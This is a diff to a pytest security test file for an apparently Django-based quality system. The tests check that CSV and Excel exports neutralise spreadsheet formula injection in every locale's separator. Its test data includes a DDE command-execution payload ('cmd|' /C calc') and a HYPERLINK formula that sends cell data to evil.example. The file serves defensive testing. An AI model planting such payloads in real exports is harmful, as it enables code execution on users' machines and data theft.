@@ -2,8 +2,10 @@
 formula (= + - @ tab CR at its start) is written by every export as text.
 
 The demo organisation is seeded and every free-text field overwritten with formulas (the same
-fields as the stored-XSS test); then every export in EXPORTS is downloaded and every cell read
-back. A cell may start with one of those characters only if it is a number.
+fields as the stored-XSS test), some of them after a ";", "," or tab inside the text; then every
+export in EXPORTS is downloaded and read back the way Excel opens a CSV in each locale: split on
+",", on ";" (Germany, France) and on tab. No cell, nor any piece of a cell after a separator or
+line break, may start with one of those characters unless it is a number.
 """
 
 from __future__ import annotations
@@ -13,13 +15,14 @@ import datetime
 import io
 import re
 import zipfile
+from pathlib import Path
 
 import pytest
 from django.contrib.auth import get_user_model
 from django.utils import timezone
 from openpyxl import load_workbook
 
-from qms.core.spreadsheets import FORMULA_PREFIXES, safe_cell
+from qms.core.spreadsheets import FORMULA_PREFIXES, csv_text, csv_writer, safe_cell
 from qms.evidence import builder
 from qms.evidence.sections import Scope
 from tests.security.test_stored_xss import our_models, prose_fields
@@ -34,7 +37,15 @@ FORMULAS = (
     "@SUM(1+1)",
     "\t=1+1",
     "\r=1+1",
+    "Accuracy;=2*21",
+    "Scrap rate\t+SUM(1+1)",
+    "Yield, -2+3+cmd|' /C calc'!A0",
+    'Note; "@SUM(1+1)"',
+    "First line\n=1+1",
 )
+# How Excel splits a CSV: "," in most locales, ";" where "," is the decimal mark, tab.
+SEPARATORS = (",", ";", "\t")
+PIECE_BREAK = re.compile(r"[,;\t\r\n]")
 
 
 def poison_with_formulas() -> int:
@@ -55,18 +66,36 @@ def poison_with_formulas() -> int:
     return changed
 
 
-def _unsafe(cell: str) -> bool:
-    if not cell.startswith(FORMULA_PREFIXES):
+def _unsafe_piece(piece: str) -> bool:
+    piece = piece.lstrip(' "')  # a spreadsheet may skip a space or an opening quote
+    if not piece.startswith(FORMULA_PREFIXES):
         return False
     try:
-        float(cell)
+        float(piece)
     except ValueError:
         return True
     return False  # a negative number is a number
 
 
+def _unsafe(cell: str) -> bool:
+    """A cell that starts a formula, or has a piece that would once split on any separator."""
+    return cell.startswith(("\t", "\r")) or any(
+        _unsafe_piece(piece) for piece in PIECE_BREAK.split(cell)
+    )
+
+
+def spreadsheet_cells(text: str) -> list[str]:
+    """Every cell a spreadsheet finds in a CSV text, splitting on each separator in turn."""
+    return [
+        cell
+        for separator in SEPARATORS
+        for row in csv.reader(io.StringIO(text), delimiter=separator)
+        for cell in row
+    ]
+
+
 def csv_cells(content: bytes) -> list[str]:
-    return [c for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for c in row]
+    return spreadsheet_cells(content.decode("utf-8-sig"))
 
 
 def _dashboard_table(key):
@@ -167,16 +196,47 @@ def test_every_csv_the_dashboard_offers_is_checked(client, poisoned):
     assert offered <= set(DASHBOARD_TABLES)
 
 
+@pytest.mark.parametrize(
+    ("text", "written"),
+    [('=HYPERLINK("http://evil.example/?"&A1,"Click")',
+      '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'),
+     ("+SUM(1+1)", "'+SUM(1+1)"), ("@SUM(1+1)", "'@SUM(1+1)"), ("-2+3", "'-2+3"),
+     ("\t=1+1", "'\t'=1+1"), ("\r=1+1", "'\n'=1+1"), (" =1+1", "' =1+1"),
+     ("Accuracy;=2*21", "Accuracy;'=2*21"), ("Accuracy,=2*21", "Accuracy,'=2*21"),
+     ("Accuracy\t=2*21", "Accuracy\t'=2*21"), ("Accuracy; =2*21", "Accuracy; '=2*21"),
+     ('Accuracy;"=2*21"', 'Accuracy;"\'=2*21"'), ("line\r\n@SUM(1)", "line\n'@SUM(1)"),
+     ("a;+1;-2;b", "a;+1;-2;b"), ("Scrap -2%; target 5", "Scrap -2%; target 5"),
+     ("OBJ-01; OBJ-02", "OBJ-01; OBJ-02")],
+)  # fmt: skip
+def test_safe_cell_neutralises_a_formula_after_any_separator(text, written):
+    assert safe_cell(text) == written
+    assert safe_cell(written) == written  # written twice (an audit-trail change) stays the same
+
+
 @pytest.mark.parametrize("formula", FORMULAS)
-def test_safe_cell_prefixes_every_formula(formula):
-    assert safe_cell(formula) == "'" + formula.replace("\r", "\n")
+@pytest.mark.parametrize("position", ["alone", "middle", "last"])
+def test_a_csv_written_by_the_project_opens_without_a_formula_in_any_locale(formula, position):
+    row = {"alone": [formula], "middle": ["OBJ-01", formula, "x;y"], "last": [3, "a,b", formula]}
+    text = csv_text([["Code", "Title", "Note"], row[position]])
+    assert [c for c in spreadsheet_cells(text) if _unsafe(c)] == []
+
+
+def test_every_csv_is_written_by_the_one_safe_writer():
+    root = Path(__file__).resolve().parents[2]
+    writers = [
+        str(path.relative_to(root))
+        for app in ("qms", "objectives", "leadership", "reviews")
+        for path in (root / app).rglob("*.py")
+        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text())
+    ]
+    assert writers == ["qms/core/spreadsheets.py"]
 
 
 def test_a_carriage_return_inside_text_cannot_start_a_row_in_any_csv_dialect():
     # The evidence pack ends lines with "\n", so the csv module would leave "\r" unquoted.
     out = io.StringIO()
-    csv.writer(out, lineterminator="\n").writerow([safe_cell("note\r=1+1"), "x"])
-    assert out.getvalue() == '"note\n=1+1",x\n'
+    csv_writer(out, lineterminator="\n").writerow(["note\r=1+1", "x"])
+    assert out.getvalue() == '"note\n\'=1+1",x\n'
 
 
 @pytest.mark.parametrize("value", [-3, -2.5, 0, "plain", "it's = fine", None])
